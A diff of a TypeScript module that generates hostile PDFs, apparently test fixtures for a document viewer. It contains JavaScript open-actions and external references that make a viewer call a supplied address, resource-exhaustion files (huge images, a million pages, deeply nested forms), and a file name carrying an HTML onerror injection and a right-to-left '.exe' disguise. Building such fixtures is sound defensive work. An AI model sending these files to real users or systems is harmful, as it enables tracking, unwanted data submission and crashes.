@@ -1,4 +1,4 @@
-/** Documents that attack the program that draws them, by actions or by the use of resources. */
+/** Documents that attack the drawing program by actions or by their use of resources. */
 import { flateRepeat, onePage } from './hostile.ts';
 
 const FONT = '/Resources<</Font<</F 5 0 R>>>>';
@@ -8,7 +8,7 @@ function saying(words: string): string {
   return `BT /F 24 Tf 72 700 Td (${words}) Tj ET`;
 }
 
-/** Everything that makes a careless viewer act or call home, each pointing to `address`. */
+/** Everything that makes a careless viewer act or call an address. All parts use `address`. */
 export function callsHome(address: string): Uint8Array {
   const script = `<</S/JavaScript/JS(app.launchURL\\('${address}/script', true\\); this.submitForm\\('${address}/submitted'\\); fetch\\('${address}/fetch'\\);)>>`;
   const actions = `/OpenAction ${script}/AA<</WC ${script}/WP ${script}>>/Names<</JavaScript<</Names[(a) ${script}]>>>>`;
@@ -39,7 +39,7 @@ export function callsHome(address: string): Uint8Array {
         `/Type/FontDescriptor/FontName/Evil/Flags 32/FontFile2 10 0 R/F<</FS/URL/F(${address}/descriptor)>>`,
         '',
       )
-      // The data of these are said to be in files elsewhere.
+      // These streams state that their data are in files elsewhere.
       .stream(
         7,
         `/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(${address}/image)>>`,
@@ -57,7 +57,7 @@ export function callsHome(address: string): Uint8Array {
   );
 }
 
-/** An image of 10,000 by 10,000 pixels, in some kilobytes. */
+/** An image of 10,000 by 10,000 pixels in some kilobytes. */
 export function hugeImage(): Uint8Array {
   const side = 10_000;
   return onePage('/Resources<</XObject<</X 5 0 R>>>>')
@@ -78,12 +78,12 @@ export function hugePage(): Uint8Array {
     .table();
 }
 
-/** A page that is a line: as long as any, and next to nothing wide. */
+/** A page of the greatest length and almost no width. */
 export function ribbon(): Uint8Array {
   return onePage(`${FONT}/MediaBox[0 0 1 9999999]`).stream(4, '', saying('I am long')).object(5, HELVETICA).table();
 }
 
-/** One page, a million times: the file says it in six bytes each. */
+/** One page, repeated a million times with six bytes each. */
 export function millionPages(): Uint8Array {
   const count = 1_000_000;
   return onePage(FONT)
@@ -93,7 +93,7 @@ export function millionPages(): Uint8Array {
     .table();
 }
 
-/** Forms that draw forms that draw forms: ten each, twelve deep. Nobody sees the end. */
+/** Forms that draw ten forms each, twelve levels deep. No reader finishes the drawing. */
 export function neverDrawn(): Uint8Array {
   const depth = 12;
   const file = onePage('/Resources<</XObject<</X 5 0 R>>>>').stream(4, '', '/X Do');
@@ -104,10 +104,10 @@ export function neverDrawn(): Uint8Array {
   return file.stream(5 + depth, '/Type/XObject/Subtype/Form/BBox[0 0 612 792]', '0 0 m 9 9 l S').table();
 }
 
-/** A text that is markup, that turns the direction of writing, and that ends a line of a terminal. */
+/** A text with markup, with a change of the writing direction, and with a line end for terminals. */
 export const HOSTILE_NAME = '<img src=x onerror="document.title=1">\u202Efdp.exe\u0007';
 
-/** The document whose every name is a hostile one: title, keys, fields, files, fonts, bookmarks nested without end. */
+/** A document in which every name is hostile: title, keys, fields, files, fonts, deeply nested bookmarks. */
 export function hostileNames(): Uint8Array {
   const name = `<FEFF${Buffer.from(HOSTILE_NAME, 'utf16le').swap16().toString('hex')}>`;
   const depth = 5_000;
